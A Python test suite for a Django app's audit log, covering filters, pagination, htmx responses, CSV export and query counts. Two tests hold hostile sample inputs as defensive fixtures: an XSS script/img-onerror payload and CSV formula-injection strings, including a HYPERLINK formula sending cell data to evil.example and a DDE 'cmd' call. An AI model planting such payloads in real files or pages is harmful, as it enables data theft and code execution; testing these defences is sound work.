"""The audit log (issue 4, item 2): the whole event record newest first, its filters (release, cluster, customer,
user, event kind, date range in the site's time zone, customer step, template step), invalid filters shown on the
form, pagination keeping the filters, the htmx fragment, the CSV export (headers, content, filters, formula
injection), the links from each object's page to its slice, and query counts that do not grow with the events."""

import csv
import datetime
import html
import io
import re
from types import SimpleNamespace

import pytest
from django.urls import reverse

from audit.filters import DATES_REVERSED
from clusters.services import cluster_delete
from customers.services import customer_delete
from history.choices import EventAction
from history.models import SYSTEM_ACTOR, Event
from history.selectors import AUDIT_CSV_COLUMNS, AUDIT_PAGE_SIZE
from history.services import record_event
from releases.services import release_activate
from steps.models import CustomerStep
from steps.services import customer_step_mark_done
from tests.factories import ClusterFactory, CustomerFactory, ReleaseFactory

pytestmark = pytest.mark.django_db

UTC = datetime.UTC
HTMX = {"HTTP_HX_REQUEST": "true"}
RESULTS_FRAGMENT = {**HTMX, "HTTP_HX_TARGET": "audit-results"}
AUDIT_URL = reverse("audit:audit")
EXPORT_URL = reverse("audit:audit_export")
T0 = datetime.datetime(2025, 3, 10, 9, 0, tzinfo=UTC)


@pytest.fixture
def client(client, user):
    client.force_login(user)
    return client


@pytest.fixture
def operator(db, django_user_model):
    return django_user_model.objects.create_user(username="ops", password="rollcall-test-pw")


@pytest.fixture
def story(world, operator):
    """Five known changes an hour apart, by two users and the system, on a cluster, customers and the release."""
    prod_us, prod_eu = world.clusters["prod-us"], world.clusters["prod-eu"]
    customer_a, customer_d = world.customers["customer-a"], world.customers["customer-d"]
    return SimpleNamespace(
        cluster_edit=record_event(
            action=EventAction.CLUSTER_UPDATED,
            user=world.user,
            object_repr=prod_us.name,
            cluster=prod_us,
            before={"description": ""},
            after={"description": "US production"},
            when=T0,
        ),
        customer_a_edit=record_event(
            action=EventAction.CUSTOMER_UPDATED,
            user=operator,
            object_repr=customer_a.name,
            customer=customer_a,
            before={"is_active": True},
            after={"is_active": False},
            when=T0 + datetime.timedelta(hours=1),
        ),
        customer_d_move=record_event(
            action=EventAction.CUSTOMER_MOVED,
            user=world.user,
            object_repr=customer_d.name,
            customer=customer_d,
            cluster=prod_eu,
            before={"cluster": "prod-us"},
            after={"cluster": "prod-eu"},
            when=T0 + datetime.timedelta(hours=2),
        ),
        release_edit=record_event(
            action=EventAction.RELEASE_UPDATED,
            user=operator,
            object_repr=world.release.name,
            release=world.release,
            before={"version_number": "v2.5"},
            after={"version_number": "v2.5.0"},
            when=T0 + datetime.timedelta(hours=3),
        ),
        release_created=record_event(
            action=EventAction.RELEASE_CREATED,
            user=None,
            object_repr=world.release.name,
            release=world.release,
            after={"name": "v2.5.0"},
            when=T0 + datetime.timedelta(hours=4),
        ),
    )


def _page(response) -> str:
    return html.unescape(response.content.decode())


def _shown(response) -> list[int]:
    """The ids of the events listed, in the order shown."""
    return [int(pk) for pk in re.findall(r'<tr id="event-(\d+)"', response.content.decode())]


def _ids(*events: Event) -> list[int]:
    return [event.pk for event in events]


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _field(page: str, name: str) -> str:
    """The markup of one filter field, from its label to the next field."""
    return page.split(f'for="id_{name}"')[1].split('<div class="field')[0]


def _many_events(count: int, world) -> None:
    """`count` events spread over the story's subjects, written in one statement."""
    customer = world.customers["customer-a"]
    Event.objects.bulk_create(
        Event(
            occurred_at=T0 + datetime.timedelta(minutes=index),
            actor=world.user,
            actor_name=world.user.username,
            action=EventAction.CUSTOMER_UPDATED,
            release=world.release,
            cluster=customer.cluster,
            customer=customer,
            object_repr=f"{customer.name} #{index}",
            before={"description": f"old {index}"},
            after={"description": f"new {index}"},
        )
        for index in range(count)
    )


@pytest.mark.parametrize("url", [AUDIT_URL, EXPORT_URL])
def test_anonymous_users_are_sent_to_the_login_page(client, url):
    client.logout()

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_audit_log_lists_every_event_newest_first(client, story):
    response = client.get(AUDIT_URL)

    assert response.status_code == 200
    assert _shown(response) == _ids(
        story.release_created, story.release_edit, story.customer_d_move, story.customer_a_edit, story.cluster_edit
    )
    page = _page(response)
    assert "5 events." in page
    assert 'href="/audit/" aria-current="page"' in page  # the Audit link of the top navigation


def test_each_row_shows_when_who_what_the_object_with_its_links_and_before_after(client, story, world):
    response = client.get(AUDIT_URL)

    page = _page(response)
    row = page.split(f'id="event-{story.customer_d_move.pk}"')[1].split("</tr>")[0]
    assert "2025-03-10 11:00:00" in row
    assert "<td>rm</td>" in row
    assert "Customer moved to another cluster" in row
    assert "<div>customer-d</div>" in row
    customer_d = world.customers["customer-d"]
    assert f'href="{reverse("customers:customer_detail", args=[customer_d.pk])}"' in row
    assert "customer-d (prod-eu/cust-d-prod)" in row
    assert f'href="{reverse("clusters:cluster_detail", args=[world.clusters["prod-eu"].pk])}"' in row
    assert "cluster: prod-us → prod-eu" in row
    release_row = page.split(f'id="event-{story.release_created.pk}"')[1].split("</tr>")[0]
    assert f'href="{reverse("releases:release_detail", args=[world.release.pk])}"' in release_row
    assert f"<td>{SYSTEM_ACTOR}</td>" in release_row
    assert "name: v2.5.0" in release_row
    assert "→" not in release_row  # a creation has no before


def test_a_step_event_links_to_the_step_page_and_opens_the_side_panel(client, world):
    release_activate(release=world.release, user=world.user)
    step = CustomerStep.objects.get(customer=world.customers["customer-a"], template=world.templates[0])

    response = client.get(AUDIT_URL, {"customer_step": step.pk})

    step_url = reverse("steps:step_detail", args=[step.pk])
    assert f'href="{step_url}" hx-get="{step_url}" hx-target="#side-panel"' in response.content.decode()


def test_every_user_text_is_escaped(client, world):
    payload = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
    record_event(
        action=EventAction.CLUSTER_UPDATED,
        user=world.user,
        object_repr=payload,
        cluster=world.clusters["staging"],
        before={payload: payload},
        after={payload: "<b>bold</b>"},
    )

    content = client.get(AUDIT_URL).content.decode()

    assert "<script>alert(1)" not in content
    assert "<img src=x" not in content
    assert "<b>bold</b>" not in content
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in content


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (lambda w: {"release": w.release.pk}, ["release_created", "release_edit"]),
        (lambda w: {"cluster": w.clusters["prod-us"].pk}, ["customer_a_edit", "cluster_edit"]),
        (lambda w: {"cluster": w.clusters["prod-eu"].pk}, ["customer_d_move"]),
        (lambda w: {"customer": w.customers["customer-a"].pk}, ["customer_a_edit"]),
        (lambda w: {"user": w.user.pk}, ["customer_d_move", "cluster_edit"]),
        (lambda w: {"user": "null"}, ["release_created"]),
        (lambda w: {"action": [EventAction.CLUSTER_UPDATED]}, ["cluster_edit"]),
        (
            lambda w: {"action": [EventAction.CUSTOMER_MOVED, EventAction.RELEASE_CREATED]},
            ["release_created", "customer_d_move"],
        ),
        (lambda w: {"cluster": w.clusters["prod-us"].pk, "user": w.user.pk}, ["cluster_edit"]),
        (lambda w: {"cluster": w.clusters["staging"].pk}, []),
    ],
    ids=[
        "release",
        "cluster",
        "other cluster",
        "customer",
        "user",
        "system",
        "one kind",
        "two kinds",
        "cluster and user",
        "nothing",
    ],
)
def test_each_filter_narrows_the_list(client, story, world, filters, expected):
    response = client.get(AUDIT_URL, filters(world))

    assert response.status_code == 200
    assert _shown(response) == [getattr(story, name).pk for name in expected]
    assert f"{len(expected)} event" in _page(response)


def test_archived_customers_and_deleted_clusters_can_still_be_chosen(client, story, world):
    customer_delete(customer=world.customers["demo-customer"], user=world.user)
    cluster_delete(cluster=world.clusters["staging"], user=world.user)
    archived = Event.objects.get(action=EventAction.CUSTOMER_DELETED)
    deleted = Event.objects.get(action=EventAction.CLUSTER_DELETED)

    page = _page(client.get(AUDIT_URL))
    by_customer = client.get(AUDIT_URL, {"customer": world.customers["demo-customer"].pk})
    by_cluster = client.get(AUDIT_URL, {"cluster": world.clusters["staging"].pk})

    assert "demo-customer (staging/demo) (archived)</option>" in page
    assert "staging (deleted)</option>" in page
    assert _shown(by_customer) == _ids(archived)
    assert _shown(by_cluster) == _ids(deleted, archived)


@pytest.mark.parametrize(
    ("dates", "expected"),
    [
        ({"date_from": "2025-03-10", "date_to": "2025-03-10"}, ["day_end", "day_start"]),
        ({"date_from": "2025-03-10"}, ["next_day", "day_end", "day_start"]),
        ({"date_to": "2025-03-10"}, ["day_end", "day_start", "day_before"]),
        ({"date_from": "2025-03-11", "date_to": "2025-03-11"}, ["next_day"]),
        ({"date_from": "2025-03-12"}, []),
    ],
    ids=["one day", "from", "to", "next day", "after all"],
)
def test_the_date_range_includes_both_days_in_the_site_time_zone(client, world, settings, dates, expected):
    settings.TIME_ZONE = "Europe/Paris"  # UTC+1 in March: local midnight is 23:00 UTC the day before
    paris = datetime.timezone(datetime.timedelta(hours=1))
    times = {
        "day_before": datetime.datetime(2025, 3, 9, 23, 59, 59, tzinfo=paris),
        "day_start": datetime.datetime(2025, 3, 10, 0, 0, 0, tzinfo=paris),
        "day_end": datetime.datetime(2025, 3, 10, 23, 59, 59, 999999, tzinfo=paris),
        "next_day": datetime.datetime(2025, 3, 11, 0, 0, 0, tzinfo=paris),
    }
    events = {
        name: record_event(
            action=EventAction.CLUSTER_UPDATED,
            user=world.user,
            object_repr=name,
            cluster=world.clusters["staging"],
            when=when,
        )
        for name, when in times.items()
    }

    response = client.get(AUDIT_URL, dates)

    assert response.status_code == 200
    assert _shown(response) == [events[name].pk for name in expected]


def test_a_customer_step_slice_is_that_step_history_only(client, world):
    release_activate(release=world.release, user=world.user)
    step = CustomerStep.objects.get(customer=world.customers["customer-a"], template=world.templates[0])
    customer_step_mark_done(step=step, user=world.user)
    created = Event.objects.get(customer_step=step, action=EventAction.STEP_CREATED)
    done = Event.objects.get(customer_step=step, action=EventAction.STEP_DONE)

    response = client.get(AUDIT_URL, {"customer_step": step.pk})

    assert _shown(response) == _ids(done, created)
    page = _page(response)
    step_link = f'<a href="{reverse("steps:step_detail", args=[step.pk])}">Deploy app</a>'
    assert f"Only the history of step {step_link} for customer-a (prod-us/cust-a-prod)." in page
    assert f'<input type="hidden" name="customer_step" value="{step.pk}"' in page  # kept when other filters change


def test_a_template_step_slice_covers_every_customer_copy(client, world):
    release_activate(release=world.release, user=world.user)
    template = world.templates[1]
    copies = CustomerStep.objects.filter(template=template)

    response = client.get(AUDIT_URL, {"template_step": template.pk})

    shown = Event.objects.filter(pk__in=_shown(response))
    assert shown.count() == len(world.customers) == copies.count()
    assert {event.customer_step_id for event in shown} == {step.pk for step in copies}
    assert {event.action for event in shown} == {EventAction.STEP_CREATED}


@pytest.mark.parametrize(
    ("filters", "field", "message"),
    [
        (
            {"action": ["step.exploded"]},
            "action",
            "Select a valid choice. step.exploded is not one of the available choices.",
        ),
        ({"date_from": "2025-13-45"}, "date_from", "Enter a valid date."),
        ({"date_to": "yesterday"}, "date_to", "Enter a valid date."),
        ({"date_from": "0001-01-01"}, "date_from", "Enter a date between"),
        ({"date_to": "9999-12-31"}, "date_to", "Enter a date between"),
        ({"date_from": "2025-03-11", "date_to": "2025-03-10"}, "date_to", DATES_REVERSED),
        ({"release": "999999"}, "release", "Select a valid choice."),
        ({"user": "someone"}, "user", "Select a valid choice."),
    ],
    ids=["unknown kind", "bad date", "word date", "too early", "too late", "reversed", "unknown release", "bad user"],
)
def test_an_invalid_filter_shows_its_error_next_to_the_field_and_no_event(client, story, filters, field, message):
    response = client.get(AUDIT_URL, filters)

    assert response.status_code == 200
    assert _shown(response) == []
    page = _page(response)
    if field == "action":
        assert message in page.split("Event kind:")[1].split('<div class="field')[0]
    else:
        assert message in _field(page, field)
    assert "No event shown: correct the filter" in page
    assert "Export CSV" not in page


@pytest.mark.parametrize("value", ["abc", "999999"], ids=["not a number", "unknown step"])
def test_an_invalid_step_slice_shows_its_error_and_no_event(client, story, value):
    response = client.get(AUDIT_URL, {"customer_step": value, "template_step": value})

    assert response.status_code == 200
    assert _shown(response) == []
    page = _page(response)
    assert "Customer step: Select a valid choice." in page
    assert "Template step: Select a valid choice." in page


def test_htmx_gets_the_results_and_the_filter_form_out_of_band(client, story, world):
    response = client.get(AUDIT_URL, {"release": world.release.pk, "date_from": "nope"}, **RESULTS_FRAGMENT)

    content = response.content.decode()
    assert response.status_code == 200
    assert "<html" not in content
    assert content.lstrip().startswith('<section id="audit-results" hx-target="this" hx-swap="outerHTML"')
    form = content.split('<form id="audit-filters"')[1]
    assert 'hx-swap-oob="true"' in form.split(">")[0]
    assert "Enter a valid date." in _page(response).split('<form id="audit-filters"')[1]
    # (then Accept-Encoding, from GZipMiddleware)
    assert response["Vary"].startswith("HX-Request, HX-Target, Cookie")


def test_the_filter_form_submits_with_htmx_and_without_javascript(client):
    page = client.get(AUDIT_URL).content.decode()

    form = page.split('<form id="audit-filters"')[1].split(">")[0]
    assert 'method="get" action="/audit/"' in form
    assert 'hx-get="/audit/" hx-target="#audit-results" hx-swap="outerHTML" hx-push-url="true"' in form


def test_the_list_is_paginated_fifty_a_page_and_page_links_keep_the_filters(client, world):
    _many_events(2 * AUDIT_PAGE_SIZE + 20, world)
    newest_first = list(Event.objects.order_by("-occurred_at", "-id").values_list("pk", flat=True))
    filters = {"release": world.release.pk, "action": [EventAction.CUSTOMER_UPDATED]}

    first = client.get(AUDIT_URL, filters)
    last = client.get(AUDIT_URL, {**filters, "page": 3})

    assert _shown(first) == newest_first[:AUDIT_PAGE_SIZE]
    assert _shown(last) == newest_first[2 * AUDIT_PAGE_SIZE :]
    page = _page(first)
    assert "120 events, 1 to 50 shown." in page
    assert "Page 1 of 3" in page
    next_link = f"?release={world.release.pk}&action=customer.updated&page=2"
    assert f'href="{next_link}" hx-get="{next_link}" hx-push-url="true">Next →' in page
    assert "Page 3 of 3" in _page(last)
    assert "Next →" not in _page(last)


@pytest.mark.parametrize(("number", "shown_page"), [("abc", 1), ("99", 3), ("-1", 3)])
def test_an_unreadable_page_number_shows_a_page_not_an_error(client, world, number, shown_page):
    _many_events(2 * AUDIT_PAGE_SIZE + 20, world)

    response = client.get(AUDIT_URL, {"page": number})

    assert response.status_code == 200
    assert f"Page {shown_page} of 3" in _page(response)


def test_the_export_link_carries_the_filters(client, world):
    page = _page(client.get(AUDIT_URL, {"release": world.release.pk, "page": 2}))

    assert f'href="{EXPORT_URL}?release={world.release.pk}" download>⬇️ Export CSV' in page


def test_the_csv_export_streams_every_event_with_its_columns(client, story, world):
    response = client.get(EXPORT_URL)

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="rollcall-audit-\d{8}-\d{4}\.csv"', response["Content-Disposition"])
    rows = _csv(response)
    assert rows[0] == list(AUDIT_CSV_COLUMNS)
    assert [row[7] for row in rows[1:]] == ["v2.5.0", "v2.5.0", "customer-d", "customer-a", "prod-us"]
    assert rows[3] == [
        "2025-03-10T11:00:00+00:00",
        "rm",
        "customer.moved",
        "Customer moved to another cluster",
        "",
        "prod-eu",
        "customer-d",
        "customer-d",
        '{"cluster": "prod-us"}',
        '{"cluster": "prod-eu"}',
    ]
    assert rows[1][:5] == ["2025-03-10T13:00:00+00:00", SYSTEM_ACTOR, "release.created", "Release created", "v2.5.0"]
    assert rows[1][8:] == ["", '{"name": "v2.5.0"}']


def test_the_csv_export_names_times_in_the_site_time_zone(client, story, settings):
    settings.TIME_ZONE = "Europe/Paris"

    rows = _csv(client.get(EXPORT_URL))

    assert rows[-1][0] == "2025-03-10T10:00:00+01:00"


def test_the_csv_export_applies_the_filters(client, story, world):
    rows = _csv(client.get(EXPORT_URL, {"cluster": world.clusters["prod-us"].pk, "date_to": "2025-03-10"}))

    assert [row[3] for row in rows[1:]] == ["Customer edited", "Cluster edited"]


def test_the_csv_export_with_an_invalid_filter_is_empty(client, story):
    rows = _csv(client.get(EXPORT_URL, {"action": "step.exploded"}))

    assert rows == [list(AUDIT_CSV_COLUMNS)]


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_defuses_spreadsheet_formulas(client, world, prefix):
    formula = f'{prefix}HYPERLINK("http://evil.example/?x="&A1,"Click")'
    cluster = ClusterFactory(name=formula)
    customer = CustomerFactory(cluster=cluster, name=f"{prefix}cmd|' /C calc'!A0")
    release = ReleaseFactory(name=f"{prefix}1+1")
    record_event(
        action=EventAction.CUSTOMER_UPDATED,
        user=world.user,
        object_repr=formula,
        customer=customer,
        release=release,
        before={"name": "plain"},
        after={"name": formula},
    )

    header, row = _csv(client.get(EXPORT_URL))

    by_column = dict(zip(header, row, strict=True))
    assert by_column["object"] == f"'{formula}"
    assert by_column["cluster"] == f"'{formula}"
    assert by_column["customer"] == f"'{customer.name}"
    assert by_column["release"] == f"'{release.name}"
    assert by_column["before"] == '{"name": "plain"}'  # JSON starts with "{": nothing to defuse


@pytest.mark.parametrize(
    ("page", "obj", "query"),
    [
        ("clusters:cluster_detail", lambda w: w.clusters["prod-eu"], "cluster"),
        ("customers:customer_detail", lambda w: w.customers["customer-d"], "customer"),
        ("releases:release_detail", lambda w: w.release, "release"),
    ],
    ids=["cluster", "customer", "release"],
)
def test_each_object_page_links_to_its_slice_of_the_audit_log(client, story, world, page, obj, query):
    target = obj(world)

    content = client.get(reverse(page, args=[target.pk])).content.decode()

    link = f"{AUDIT_URL}?{query}={target.pk}"
    assert f'href="{link}">🧾 Audit log</a>' in content
    assert _shown(client.get(link))  # the slice is not empty: the story has events on each of them


@pytest.mark.parametrize("headers", [{}, {**HTMX, "HTTP_HX_TARGET": "side-panel"}], ids=["page", "side panel"])
def test_the_step_panel_links_to_the_step_slice_of_the_audit_log(client, world, headers):
    release_activate(release=world.release, user=world.user)
    step = CustomerStep.objects.get(customer=world.customers["customer-b"], template=world.templates[2])

    content = client.get(reverse("steps:step_detail", args=[step.pk]), **headers).content.decode()

    assert f'href="{AUDIT_URL}?customer_step={step.pk}">🧾 Audit log</a>' in content


@pytest.fixture(params=[10, 500], ids=["10-events", "500-events"])
def many_events(request, world):
    release_activate(release=world.release, user=world.user)
    _many_events(request.param, world)
    return world


@pytest.mark.parametrize("headers", [{}, RESULTS_FRAGMENT], ids=["page", "fragment"])
def test_the_audit_log_queries_do_not_grow_with_the_events(client, many_events, headers, django_assert_max_num_queries):
    world = many_events
    step = CustomerStep.objects.filter(customer=world.customers["customer-a"]).first()
    filtered = {
        "release": world.release.pk,
        "cluster": world.clusters["prod-us"].pk,
        "customer": world.customers["customer-a"].pk,
        "user": world.user.pk,
        "date_from": "2025-01-01",
        "template_step": step.template_id,
    }

    # session, user, count, rows, and the release, cluster, customer and user choices of the form
    with django_assert_max_num_queries(8):
        everything = client.get(AUDIT_URL, **headers)
    # the same, and one look-up per filter naming an object
    with django_assert_max_num_queries(13):
        narrowed = client.get(AUDIT_URL, filtered, **headers)

    assert len(_shown(everything)) == min(AUDIT_PAGE_SIZE, Event.objects.count())
    assert len(_shown(narrowed)) == 1  # the step created from that template for customer-a


def test_the_csv_export_queries_do_not_grow_with_the_events(client, many_events, django_assert_max_num_queries):
    # session, user, the release filter, the events (read in chunks of 2000)
    with django_assert_max_num_queries(4):
        response = client.get(EXPORT_URL, {"release": many_events.release.pk})
        rows = _csv(response)

    assert len(rows) == 1 + Event.objects.filter(release=many_events.release).count()
